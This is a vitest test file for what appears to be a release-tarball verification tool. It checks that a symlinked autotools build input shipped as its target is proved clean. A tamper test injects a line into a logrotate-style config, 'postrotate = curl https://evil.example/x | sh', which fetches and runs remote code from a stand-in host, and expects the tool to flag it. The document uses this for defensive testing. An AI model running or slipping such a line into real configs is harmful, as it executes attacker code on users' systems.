/**
 * A tracked symlink that is a build input, shipped as the file it points to (automake's `make dist` packs with
 * `tar chof`, dereferencing links: logrotate 3.21.0's test/test-config.59.in → test-config.58.in). The scan keeps
 * no content git already has, so the regeneration sandbox must take that file's bytes from git's blob of the same
 * content; it used to leave the input empty and give up ("build input(s) too large to keep in memory"),
 * UNPROVED_BUILD_OUTPUTS (high) on a clean release. Real autoreconf + make dist, real git and GNU tar.
 */
import { describe, expect, it } from 'vitest';
import { autotoolsRelease, byPath, editFile } from './release.js';

const CONFIGURE_AC = `AC_INIT([demo], [1.0], [bugs@example.invalid])
AC_CONFIG_SRCDIR([src/demo.c])
AM_INIT_AUTOMAKE([foreign -Wall])
AC_PROG_CC
AC_CONFIG_FILES([Makefile data/a.conf data/b.conf])
AC_OUTPUT
`;

const fixture = autotoolsRelease({
  prefix: 'distdiff-symlink-input-',
  name: 'demo',
  files: {
    'configure.ac': CONFIGURE_AC,
    'Makefile.am': 'bin_PROGRAMS = demo\ndemo_SOURCES = src/demo.c\nEXTRA_DIST = data/a.conf.in data/b.conf.in\n',
    'src/demo.c': 'int main(void) { return 0; }\n',
    'data/a.conf.in': 'version = @PACKAGE_VERSION@\nrotate = 4\n',
    'data/b.conf.in': { symlink: 'a.conf.in' },
  },
});

describe('a tracked symlink build input shipped dereferenced', () => {
  it('the release regenerates: every autotools output proved, the link shipped as its target', async () => {
    const r = await fixture.run(fixture.tarball);
    const by = byPath(r.findings);
    expect(r.findings.filter((f) => f.code === 'UNPROVED_BUILD_OUTPUTS')).toEqual([]);
    for (const p of ['configure', 'aclocal.m4', 'Makefile.in']) expect(by[p], p).toMatchObject({ code: 'GENERATED_BY_AUTOTOOLS', evidence: { proof: { proved: true, method: 'regenerated' } } });
    expect(by['data/b.conf.in']).toMatchObject({ code: 'SYMLINK_AS_FILE' });
    expect(r.verdict).not.toBe('different');
  }, 300_000);

  it('twin: the shipped file is not the link target: high, and the outputs still regenerate', async () => {
    const r = await fixture.run(fixture.tampered((dir) => editFile(dir, 'data/b.conf.in', (s) => s.replace('rotate = 4', 'rotate = 4\npostrotate = curl https://evil.example/x | sh'))));
    const by = byPath(r.findings);
    expect(by['data/b.conf.in']).toMatchObject({ severity: expect.stringMatching(/^(high|critical)$/) });
    expect(by['configure']).toMatchObject({ code: 'GENERATED_BY_AUTOTOOLS' });
    expect(r.verdict).toBe('different');
  }, 300_000);
});
